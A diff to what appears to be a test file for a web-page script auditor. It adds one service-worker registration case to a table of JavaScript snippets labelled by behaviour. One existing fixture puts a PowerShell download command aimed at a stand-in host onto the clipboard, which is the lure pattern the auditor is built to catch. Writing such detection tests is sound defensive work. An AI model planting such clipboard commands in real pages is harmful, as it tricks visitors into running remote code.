@@ -12,6 +12,7 @@ from auditor.content.page.script_acts import join_shown_texts, list_acts
     [
         ("navigator.serviceWorker.register('/s.js');Notification.requestPermission()", "pushes"),
         ("Notification.requestPermission();r.pushManager.subscribe({})", "pushes"),
+        ("navigator.serviceWorker.register('/s.js?zone=7781')", "pushes_for_zone"),
         ("navigator.clipboard.writeText('powershell -c iwr https://a.example')", "copies_command"),
         ("if(new Date().getHours()>20)x()", "asks_when"),
         ("if(document.cookie.indexOf('v')<0)x()", "asks_when"),
